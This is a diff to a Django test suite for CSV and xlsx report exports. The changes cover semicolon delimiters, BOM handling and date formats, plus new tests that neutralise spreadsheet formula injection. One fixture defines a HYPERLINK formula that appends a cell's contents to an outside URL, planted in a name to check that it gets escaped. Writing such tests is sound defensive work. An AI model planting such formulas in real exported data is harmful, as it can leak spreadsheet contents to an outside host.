@@ -56,7 +56,8 @@ def export_csv(client, kind: str) -> list[dict[str, str]]:
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert response.content.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets read UTF-8
     assert f"kompetanseloftet-2027-{kind}.csv" in response["Content-Disposition"]
-    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    text = response.content.decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text), delimiter=";"))
 
 
 def export_xlsx(client, kind: str) -> list[tuple]:
@@ -68,7 +69,7 @@ def export_xlsx(client, kind: str) -> list[tuple]:
 
 def header(client, kind: str) -> list[str]:
     response = client.get(reverse("reporting:export", args=[2027, kind, "csv"]))
-    return next(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    return next(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
 
 
 def test_column_sets_are_fixed(decided_year, login):
@@ -202,7 +203,9 @@ def test_admin_exports_the_same_columns(reported_year, login):
             url, {"format": "0", "resource": "0", **{name: "on" for name in fields}}
         )
         assert response.status_code == 200, model
-        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        assert response.content.startswith(b"\xef\xbb\xbf"), model
+        text = response.content.decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(text), delimiter=";"))
         assert rows[0] == columns, model
         assert any(SORVEST in row for row in rows[1:]), model
         assert len(rows) == 12, model
@@ -212,3 +215,89 @@ def test_admin_export_pages_change_nothing(decided_year, login):
     client = login("admin")
     for model in ("allocationexport", "caseexport", "reportexport"):
         assert client.get(reverse(f"admin:reporting_{model}_add")).status_code == 403
+
+
+# --- how the files are written (config.exports) ---------------------------------------------
+
+FORMULA = '=HYPERLINK("http://example.org/?x="&A1;"Klikk")'
+
+
+def _formula_network(case):
+    from networks.models import Network
+
+    Network.objects.filter(pk=case.network_id).update(name=FORMULA)
+
+
+def test_csv_is_semicolon_separated_utf8_with_bom_and_commas_on_request(decided_year, login):
+    client = login("statsforvalter")
+    url = reverse("reporting:export", args=[2027, "saker", "csv"])
+    body = client.get(url).content
+    assert body.startswith(b"\xef\xbb\xbf")
+    first = body.decode("utf-8-sig").splitlines()[0]
+    assert first == ";".join(CASE_COLUMNS)
+    with_commas = client.get(url, {"skilletegn": "komma"}).content.decode("utf-8-sig")
+    assert next(csv.reader(io.StringIO(with_commas))) == CASE_COLUMNS
+    assert "Trøndelag sørvest" in with_commas
+
+
+def test_a_formula_in_a_name_is_neutralised_in_csv_and_xlsx(decided_year, login):
+    _formula_network(case_of(decided_year, SORVEST))
+    client = login("statsforvalter")
+    names = {r["Nettverk"] for r in export_csv(client, "saker")}
+    assert "'" + FORMULA in names and FORMULA not in names
+    response = client.get(reverse("reporting:export", args=[2027, "saker", "xlsx"]))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
+    formula_cells = [c for c in cells if "HYPERLINK" in str(c.value)]
+    assert len(formula_cells) == 1
+    assert formula_cells[0].value == "'" + FORMULA
+    assert formula_cells[0].data_type == "s"  # text, not a formula
+
+
+def test_a_formula_is_neutralised_in_the_admin_export_too(decided_year, login):
+    _formula_network(case_of(decided_year, SORVEST))
+    client = login("admin")
+    url = reverse("admin:reporting_caseexport_export")
+    fields = [n for n in client.get(url).context["form"].fields if "resource_" in n]
+    for fmt in ("0", "1"):
+        response = client.post(url, {"format": fmt, "resource": "0", **{n: "on" for n in fields}})
+        assert response.status_code == 200
+        if fmt == "0":
+            rows = list(
+                csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
+            )
+            assert [row[1] for row in rows if "HYPERLINK" in row[1]] == ["'" + FORMULA]
+        else:
+            sheet = load_workbook(io.BytesIO(response.content)).active
+            cell = next(r[1] for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[1].value))
+            assert cell.value == "'" + FORMULA and cell.data_type == "s"
+
+
+def test_xlsx_has_real_dates_and_number_formats(reported_year, login):
+    import datetime as dt
+
+    sheet = load_workbook(
+        io.BytesIO(
+            login("statsforvalter")
+            .get(reverse("reporting:export", args=[2027, "rapporter", "xlsx"]))
+            .content
+        )
+    ).active
+    header_row = [c.value for c in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == SORVEST)
+    deadline = row[header_row.index("Frist")]
+    sent = row[header_row.index("Sendt")]
+    assert deadline.is_date and deadline.value.date() == dt.date(2027, 6, 30)
+    assert sent.is_date and sent.value.date() == dt.date(2027, 6, 1)
+    granted = row[header_row.index("Innvilget (kr)")]
+    assert isinstance(granted.value, int) and granted.number_format == "#,##0"
+
+
+def test_a_negative_number_written_as_text_is_left_alone():
+    from config.exports import neutralise
+
+    assert neutralise("-1200") == "-1200"
+    assert neutralise("-1+2") == "'-1+2"
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert neutralise(start + "SUM(A1)") == "'" + start + "SUM(A1)"
+    assert neutralise("Trøndelag") == "Trøndelag"
